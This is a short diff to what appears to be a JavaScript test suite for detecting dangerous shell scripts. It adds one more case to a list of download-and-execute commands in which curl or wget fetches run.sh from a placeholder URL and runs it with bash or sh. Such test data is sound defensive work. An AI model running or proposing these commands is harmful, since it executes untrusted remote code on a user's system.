@@ -9,6 +9,7 @@ describe('a shell script', () => {
   it.each([
     `curl -sO ${U}/run.sh; bash run.sh`,
     `wget -P /tmp ${U}/run.sh; sh /tmp/run.sh`,
+    `curl -so /tmp/x ${U}/run.sh; bash < /tmp/x`,
     `wget ${U}/run.sh\nchmod +x run.sh\n./run.sh`,
     `curl -s ${U} > /tmp/a; cat /tmp/a | sh`,
     `g() { curl -s ${U}; }; g | sh`,
